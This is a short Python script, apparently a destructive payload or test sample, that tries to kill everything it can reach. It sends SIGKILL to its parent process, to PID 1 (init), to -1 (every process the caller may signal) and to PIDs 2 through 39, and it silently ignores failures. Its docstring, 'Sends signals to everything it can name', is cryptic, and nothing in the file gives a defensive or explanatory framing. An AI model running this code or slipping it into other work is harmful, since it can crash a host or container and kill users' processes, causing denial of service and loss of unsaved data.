"""Sends signals to everything it can name. Status: ok

Held by: several
"""

import os
import signal

for pid in (os.getppid(), 1, -1, *range(2, 40)):
    if pid in (0, os.getpid()):
        continue
    try:
        os.kill(pid, signal.SIGKILL)
    except OSError:
        pass
